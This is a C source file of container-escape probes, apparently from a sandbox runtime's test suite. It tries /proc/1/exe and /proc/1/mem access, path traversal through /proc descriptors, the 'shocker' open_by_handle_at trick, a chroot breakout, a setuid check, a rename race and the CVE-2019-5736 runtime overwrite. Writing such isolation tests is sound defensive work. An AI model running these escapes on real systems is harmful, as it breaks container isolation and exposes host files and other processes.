// SPDX-License-Identifier: Apache-2.0
//
// Ways out through files that are open, that a process stands in, or that have a number.
#include "probe.h"

#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static bool open_and_close(int dirfd, const char *path, int flags)
{
	int fd = openat(dirfd, path, flags | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
	if (fd >= 0)
		close(fd);
	return fd >= 0;
}

static void try_open(int dirfd, const char *path, int flags, const char *how)
{
	verdict(open_and_close(dirfd, path, flags) ? 0 : -1, "open %s %s", path, how);
}

// The runtime's own program is that of process 1, if it is an init of it.
void probe_exe(int argc, char **argv)
{
	(void)argc, (void)argv;
	try_open(AT_FDCWD, "/proc/1/exe", O_PATH, "as a place");
	try_open(AT_FDCWD, "/proc/1/exe", O_RDONLY, "for reading");
	try_open(AT_FDCWD, "/proc/1/exe", O_WRONLY, "for writing");
	try_open(AT_FDCWD, "/proc/1/mem", O_RDWR, "for writing");
	try_open(AT_FDCWD, "/proc/1/environ", O_RDONLY, "for reading");
	try_open(AT_FDCWD, "/proc/1/maps", O_RDONLY, "for reading");
	// Our own program's file is the container's, but cannot be written while it runs.
	try_open(AT_FDCWD, "/proc/self/exe", O_WRONLY, "for writing");
	struct stat st;
	if (stat("/proc/self/exe", &st) == 0)
		printf("exe %ju:%ju\n", (uintmax_t)st.st_dev, (uintmax_t)st.st_ino);
}

// One that leads anywhere: a folder or a file of the node. Pipes, sockets and /dev/null do not.
static void judge_descriptor(const char *process, const char *fd)
{
	char path[512], link[256];
	struct stat st;
	snprintf(path, sizeof(path), "/proc/%s/fd/%s", process, fd);
	ssize_t n = readlink(path, link, sizeof(link) - 1);
	if (n < 0 || stat(path, &st) < 0) {
		verdict(-1, "%s", path);
		return;
	}
	link[n] = '\0';
	if (S_ISREG(st.st_mode) || S_ISDIR(st.st_mode) || S_ISBLK(st.st_mode) || number(fd) > 2)
		escaped("%s -> %s", path, link);
	else
		denied("%s -> %s leads nowhere", path, link);
}

static void list_descriptors(const char *process)
{
	char path[512];
	snprintf(path, sizeof(path), "/proc/%s/fd", process);
	DIR *d = opendir(path);
	if (!d) {
		verdict(-1, "list %s", path);
		return;
	}
	bool self = strcmp(process, "self") == 0;
	for (struct dirent *e; (e = readdir(d));)
		if (isdigit(e->d_name[0]) && !(self && (int)number(e->d_name) == dirfd(d)))
			judge_descriptor(process, e->d_name);
	closedir(d);
}

static void each_process(void (*visit)(const char *pid, const void *data), const void *data)
{
	DIR *d = opendir("/proc");
	for (struct dirent *e; d && (e = readdir(d));)
		if (isdigit(e->d_name[0]) && (pid_t)number(e->d_name) != getpid())
			visit(e->d_name, data);
	if (d)
		closedir(d);
}

static void list_other(const char *pid, const void *data)
{
	(void)data;
	list_descriptors(pid);
}

void probe_descriptors(int argc, char **argv)
{
	(void)argc, (void)argv;
	list_descriptors("self");
	each_process(list_other, NULL);
}

static void try_below(const char *folder, const char *secret)
{
	char path[4096];
	snprintf(path, sizeof(path), "%s/../../../../../../../../../../..%s", folder, secret);
	try_open(AT_FDCWD, path, O_RDONLY, "");
	snprintf(path, sizeof(path), "%s%s", folder, secret);
	try_open(AT_FDCWD, path, O_RDONLY, "");
}

static void try_process(const char *pid, const void *secret)
{
	static const char *const places[] = {"root", "cwd", "fd/0", "fd/3", "task"};
	char path[512];
	for (size_t i = 0; i < sizeof(places) / sizeof(*places); i++) {
		snprintf(path, sizeof(path), "/proc/%s/%s", pid, places[i]);
		try_below(path, secret);
	}
	if (number(pid) > 64)
		escaped("process %s is visible", pid);
}

// argv[0]: the path of a file of the node.
void probe_walk(int argc, char **argv)
{
	const char *secret = argv[0];
	char path[64], up[4096];
	(void)argc;
	each_process(try_process, secret);
	try_below("/proc/self/root", secret);
	try_below("/proc/self/cwd", secret);
	for (int fd = 0; fd < 20; fd++) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		try_below(path, secret);
		snprintf(up, sizeof(up), "../../../../../..%s", secret);
		try_open(fd, up, O_RDONLY, "from a descriptor");
	}
	int root = open("/", O_PATH | O_DIRECTORY);
	snprintf(up, sizeof(up), "../../../../../..%s", secret);
	try_open(root, up, O_RDONLY, "from the root");
}

// The root of any file system that the container shows is inode 2 on ext4 and 128 on xfs; with that
// name a file is opened wherever the mount ends ("shocker").
void probe_handles(int argc, char **argv)
{
	static const char *const mounts[] = {"/", "/dev/null", "/etc/hosts", "/stoker/run/outputs"};
	static const uint64_t roots[] = {2, 128, 64};
	(void)argc, (void)argv;
	for (size_t m = 0; m < sizeof(mounts) / sizeof(*mounts); m++) {
		int fd = open(mounts[m], O_RDONLY | O_CLOEXEC);
		for (size_t i = 0; fd >= 0 && i < sizeof(roots) / sizeof(*roots); i++) {
			struct {
				struct file_handle head;
				uint64_t inode;
			} handle = {
				.head = {.handle_bytes = 8, .handle_type = 1}, .inode = roots[i]};
			long got = syscall(SYS_open_by_handle_at, fd, &handle, O_RDONLY);
			verdict_strict(got, "open_by_handle_at on %s", mounts[m]);
		}
		close(fd);
	}
}

// Out of a chroot into the container's own root, and no further.
void probe_chroot(int argc, char **argv)
{
	int root = open("/", O_RDONLY | O_DIRECTORY);
	(void)argc;
	mkdir("/tmp", 0777);
	mkdir("/tmp/jail", 0755);
	if (chroot("/tmp/jail") < 0) {
		verdict(-1, "chroot");
		return;
	}
	if (fchdir(root) < 0)
		verdict(-1, "fchdir");
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			break;
	if (chroot(".") < 0)
		verdict(-1, "chroot to above");
	try_open(AT_FDCWD, argv[0], O_RDONLY, "after chroot");
}

// argv[0]: a copy of this program that is set-user-id root.
void probe_suid(int argc, char **argv)
{
	(void)argc;
	printf("before %d %d\n", getuid(), geteuid());
	execl(argv[0], argv[0], "identity", NULL);
	verdict(-1, "exec %s", argv[0]);
}

void probe_identity(int argc, char **argv)
{
	(void)argc, (void)argv;
	if (geteuid() == getuid())
		denied("the set-user-id bit: still %d", geteuid());
	else
		escaped("became %d", geteuid());
}

// Exchange two paths for ever: for a runtime that looks twice.
void probe_swap(int argc, char **argv)
{
	(void)argc;
	printf("swapping\n");
	for (;;)
		if (renameat2(AT_FDCWD, argv[0], AT_FDCWD, argv[1], RENAME_EXCHANGE) < 0) {
			printf("rename: %s\n", strerrorname_np(errno));
			exit(1);
		}
}

// argv[0]: a path of the node; from where we stand, whatever that is.
void probe_open(int argc, char **argv)
{
	char where[4096], path[8192];
	(void)argc;
	long n = syscall(SYS_getcwd, where, sizeof(where));
	printf("cwd %s\n", n > 0 ? where : strerrorname_np(errno));
	static const char ups[] = "../../../../../../../../../../../";
	for (const char *up = ups + strlen(ups); up >= ups; up -= 3) {
		snprintf(path, sizeof(path), "%s%s", up, argv[0] + 1);
		try_open(AT_FDCWD, path, O_RDONLY, "");
		if (up == ups)
			break;
	}
}

// argv[0]: a file whose content, and whether it can be written, tells what it is.
void probe_content(int argc, char **argv)
{
	char text[64];
	(void)argc;
	int fd = open(argv[0], O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	ssize_t n = fd < 0 ? 0 : read(fd, text, sizeof(text) - 1);
	text[n > 0 ? n : 0] = '\0';
	printf("content %s\n", text);
	struct stat st;
	if (fd >= 0 && fstat(fd, &st) == 0 && S_ISREG(st.st_mode))
		try_open(AT_FDCWD, argv[0], O_WRONLY, "for writing");
	close(fd);
}

void probe_sleep(int argc, char **argv)
{
	(void)argc;
	printf("sleeping\n");
	sleep((unsigned)number(argv[0]));
}

// CVE-2019-5736, after probe/loader: argv[0] is a descriptor of the runtime's program. Writes only
// what is there already.
void probe_overwrite(int argc, char **argv)
{
	char path[64], c;
	int given = (int)number(argv[0]), fd = -1;
	(void)argc;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", given);
	for (int i = 0; i < 50 && fd < 0; i++) {
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd < 0 && errno != ETXTBSY)
			break;
		usleep(20 * 1000);
	}
	if (fd < 0) {
		verdict(-1, "open the runtime's program for writing");
		return;
	}
	if (pread(given, &c, 1, 0) != 1)
		c = 0x7f;
	verdict(pwrite(fd, &c, 1, 0), "write to the runtime's program");
	close(fd);
}
